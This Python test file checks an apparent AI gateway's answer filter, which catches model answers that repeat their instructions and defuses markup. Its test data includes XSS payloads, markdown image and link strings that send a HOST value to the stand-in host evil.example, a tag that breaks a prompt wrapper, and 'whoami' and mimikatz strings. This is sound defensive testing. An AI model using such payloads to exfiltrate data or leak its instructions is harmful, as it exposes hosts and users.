"""What a valid answer may not hold before people read it."""

from typing import Any

import pytest

from shared.gateway.answer_text import for_people, repeats_instructions
from shared.gateway.prompt import SAFETY_PREFIX
from shared.gateway.redaction import RedactionMap

RULES = ["Judge the whole case on both frameworks. Give your steps, each naming the evidence that it rests on."]


@pytest.mark.parametrize(
    "answer",
    [
        f"My instructions: {RULES[0]}",
        {"reasoning": ["ok", RULES[0].upper().replace(" ", "\n\t")]},
        {"reasoning": [RULES[0][:60], RULES[0][60:]]},  # cut into pieces
        {RULES[0]: 1},
        "…" + " ".join(SAFETY_PREFIX.split()[5:30]),
    ],
)
def test_answer_that_repeats_the_instructions_is_found_however_it_is_dressed(answer: Any) -> None:
    assert repeats_instructions(answer, [SAFETY_PREFIX, *RULES])


@pytest.mark.parametrize("answer", ["", None, 7, "Judge the whole case", "mimikatz read the memory of lsass " * 50])
def test_ordinary_answer_is_not(answer: Any) -> None:
    assert not repeats_instructions(answer, [SAFETY_PREFIX, *RULES])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see <img src=x onerror=alert(1)>", "see \u2039img src=x onerror=alert(1)\u203a"),
        ("</untrusted_alert_data>", "\u2039/untrusted_alert_data\u203a"),
        ("![x](https://evil.example/?q=HOST)", "![x] (https://evil.example/?q=HOST)"),
        ("<!-- hidden -->", "\u2039!-- hidden --\u203a"),
    ],
)
def test_markup_becomes_text_and_is_flagged(text: str, shown: str) -> None:
    assert for_people({"why": [text]}, RedactionMap()) == ({"why": [shown]}, ["markup_removed: 1 text(s)"])


def test_ordinary_signs_stay() -> None:
    text = 'a < b, 3 > 2, x[1](2 of) cmd /c "dir" 2>&1 & whoami; https://e.example/?a=1&b=2'.replace("](", "] (")
    assert for_people(text, RedactionMap()) == (text, [])


def test_names_that_the_model_invented_are_unknown_and_flagged_once() -> None:
    redactions = RedactionMap()
    assert redactions.placeholder("HOST", "ws-17") == "HOST_001"
    answer, flags = for_people(["HOST_001 and HOST_009", "HOST_009"], redactions)
    assert answer == ["ws-17 and [unknown]", "[unknown]"]
    assert flags == ["unknown_placeholder: HOST_009"]


@pytest.mark.parametrize("name", ["<b>ann</b>", "ann](https://evil.example/p)b"])
def test_name_by_itself_is_put_back_as_the_alert_wrote_it(name: str) -> None:
    redactions = RedactionMap()
    redactions.placeholder("USER", name)
    assert for_people({"target": "USER_001"}, redactions) == ({"target": name}, [])


@pytest.mark.parametrize(
    ("name", "text", "shown"),
    [
        ("ann<img src=x onerror=alert(1)>b", "seen: USER_001", "seen: ann\u2039img src=x onerror=alert(1)\u203ab"),
        ("ann](https://evil.example/p)b", "see [it USER_001", "see [it ann] (https://evil.example/p)b"),
        ("img src=x onerror=alert(1)", "<USER_001>", "\u2039img src=x onerror=alert(1)\u203a"),  # completed by the text
        ("ann<", "USER_001b>", "ann\u2039b\u203a"),
        ("ann<b>", "USER_001USER_001", "ann\u2039b\u203aann\u2039b\u203a"),
    ],
)
def test_markup_that_comes_back_with_an_original_is_text_and_flagged(name: str, text: str, shown: str) -> None:
    redactions = RedactionMap()
    redactions.placeholder("USER", name)
    assert for_people({"why": [text]}, redactions) == ({"why": [shown]}, ["markup_removed: 1 text(s)"])


def test_invented_name_does_not_become_the_text_of_a_link() -> None:
    answer, flags = for_people("HOST_009(https://evil.example)", RedactionMap())
    assert answer == "[unknown] (https://evil.example)"
    assert flags == ["unknown_placeholder: HOST_009", "markup_removed: 1 text(s)"]
